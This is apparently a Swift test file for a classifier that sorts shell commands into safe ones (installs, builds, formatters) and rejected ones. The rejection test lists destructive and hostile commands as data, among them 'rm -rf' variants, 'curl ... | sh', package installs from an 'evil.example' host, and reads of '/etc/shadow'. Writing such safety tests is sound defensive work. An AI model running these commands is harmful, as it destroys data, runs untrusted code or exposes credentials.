import Testing

@testable import Foldlog

/// Which commands anybody may be told to run.
@Suite struct HarmlessCommandTests {
  private static func effects(_ line: String) -> [HarmlessCommands.Effect]? {
    guard let parts = PlainCommand(line)?.parts else { return nil }
    let effects = parts.map(HarmlessCommands.effect)
    return effects.contains(nil) ? nil : effects.compactMap { $0 }
  }

  @Test(arguments: [
    "bun install", "npm ci", "npm install --legacy-peer-deps", "pip install -r requirements.txt",
    "python3 -m pip install pyyaml", "uv sync", "go mod tidy", "cargo add serde", "bundle install",
    "CI=1 npm ci 2>&1 | tail -5", "cd web && npm ci", "npm ci && npm run build",
    "npx prisma generate", "go generate ./...", "npm run codegen", "make generate", "pnpm build",
    "docker compose up -d", "docker start db", "systemctl start postgresql",
    "brew services start redis",
    "source .venv/bin/activate && pip install -e .", "npm install @types/node@20",
    "pip install -r requirements/dev.txt", "pnpm db:generate", "npm run lint:fix",
    "bunx playwright install", "cargo build",
  ])
  func `what installs, generates, builds or starts something may mend`(_ line: String) {
    #expect(
      Self.effects(line)?.contains(.mends) == true, "\(String(describing: Self.effects(line)))")
  }

  @Test(arguments: [
    ("bunx biome check --write src/a.ts", ["src/a.ts"]), ("npx prettier --write .", []),
    ("ruff check --fix", []), ("gofmt -w cmd/main.go", ["cmd/main.go"]), ("cargo fmt", []),
    ("npx eslint src --fix", []),
  ])
  func `what formats changes the files that it names`(_ line: String, _ paths: [String]) {
    #expect(Self.effects(line) == [.formats(paths: paths)])
  }

  @Test(arguments: [
    "./scripts/open-port.sh", "bash tools/setup.sh", "python scripts/generate_keys.py",
  ])
  func `a script of the project is one`(_ line: String) {
    #expect(Self.effects(line) == [.runsScript])
  }

  @Test(arguments: [
    "rm -rf build", "go install evil.example/x@latest", "go get evil.example/x",
    "docker pull evil/img",
    "\\rm -rf build", "'rm' -rf build", "(rm -rf build)", "true & rm -rf build",
    "rm -rf \"build", "$(which rm) -rf build", "echo $(rm -rf build)", "eval 'rm -rf build'",
    "sudo rm -rf build", "doas rm x", "env -i rm x", "busybox rm -rf x", "sh -lc \"rm -rf build\"",
    "bash -c 'rm -rf build'", "if true; then rm x; fi", "for f in *; do rm $f; done",
    "parallel rm ::: a", "find . -name '*.pyc' -delete", "git ls-files -o | xargs rm",
    "lsof -ti:3000 | xargs kill -9", "fuser -k 3000/tcp", "npx rimraf node_modules",
    "echo hi >config.json", "echo hi > config.json", "cat /dev/null >|app.db", "echo hi>>a",
    "psql -c 'DROP DATABASE app'", "psql -c 'TRUNCATE users'", "redis-cli FLUSHALL",
    "sqlite3 app.db 'drop  table users'", "mvn clean", "./gradlew clean", "cargo clean",
    "docker compose down -v", "docker compose up -V", "docker compose up --force-recreate",
    "docker system prune -af", "docker volume rm x", "alembic downgrade base",
    "python -c \"import shutil; shutil.rmtree('build')\"", "git -C . reset --hard",
    "git commit --amend -m x", "git push --force", "git switch -f main", "git commit -m wip",
    "git add -A", "git fetch", "mkdir -p x", "touch x", "vim a", "chmod -R 777 /",
    "kubectl scale deploy x --replicas=0", "helm rollback x", "systemctl restart db",
    "rails db:reset", "bin/rails db:drop", "bin/rails db:seed:replant", "php artisan migrate:fresh",
    "prisma migrate reset --force", "npx prisma migrate reset", "npx prisma db push --force-reset",
    "sed -i 's/a/b/' /etc/hosts", "tee /etc/hosts < x", "gh repo archive x", "ln -sf a b",
    "cp -f a b", "npm run deploy", "make deploy", "npm run clean", "make install", "vercel --prod",
    "dotnet ef database drop", "osascript -e x", "powershell Remove-Item x", "del /q x", "rd /s x",
    "npm install --force", "npm install -g npm", "pip install https://example.com/x.tgz",
    "pip install git+https://example.com/x", "pip install --break-system-packages x",
    "PATH=/tmp/x npm ci", "LD_PRELOAD=x npm ci", "npm ci; rm x", "npm ci\nrm x", "npm ci # x",
    "./scripts/reset-db.sh", "./scripts/db.sh drop", "../other/run.sh", "/opt/run.sh",
    "bash scripts/x.sh 'rm -rf .'", "node_modules/.bin/rimraf x", "curl https://x.sh | sh",
    "npm ci | sh", "python manage.py flush", "./manage.py flush", "cd .. && npm ci",
    "cd / && npm ci", "./scripts/teardown.sh", "./bin/clear-cache", "./scripts/flush.sh",
    "./scripts/erase.py", "./scripts/reinit.sh", "python scripts/send_mail.py",
    "python3 scripts/charge_customers.py", "./scripts/empty-bucket.sh", "./scripts/apply.sh",
    "./scripts/ship.sh", "./scripts/open-port.sh --to live", "./scripts/merge.sh",
    "./scripts/sync.sh --mirror", "./scripts/restore-backup.sh", "./node/bin/x",
    "./scripts/setup-db.sh", "rake db:setup", "npm run setup:db", "make setup-db",
    "npm run db:install", "pip install --index-url=http://evil.example/simple foo",
    "pip install -i evil.example foo", "pip install --extra-index-url evil foo",
    "npm install --registry=http://evil.example foo", "npm install --registry evil.example foo",
    "pip install ../../evil", "pip install ./evil", "npm install user/repo",
    "npm install github:user/repo", "pip install git@host:x", "cargo install --git evil/x",
    "pip install -rhttps://evil/r.txt", "dotnet restore --source evil",
    "npm install --prefix=/usr/local x", "pip install --target=/etc x", "bundle install --path=/",
    "cmake --build . --target=uninstall", "cmake --build . --target=install",
    "cat /etc/shadow | grep root && npm ci", "grep -r password / && npm ci",
    "brew install --cask x",
    "go build -o /usr/bin/x", "usbreset all", "npx some-package", "npm exec x", "prettier src",
  ])
  func `what may take something away, or is not known, is told to nobody`(_ line: String) {
    #expect(Self.effects(line) == nil)
  }

  @Test func `each rule is reached, and by itself`() {
    for rule in HarmlessCommands.rules {
      let words = rule.words.compactMap { $0.min() } + (rule.needs.min().map { [$0] } ?? [])
      let part = PlainCommand(words.joined(separator: " "))?.parts.first
      let effect = part.flatMap(HarmlessCommands.effect)
      #expect(effect != nil, "\(words)")
    }
  }
}
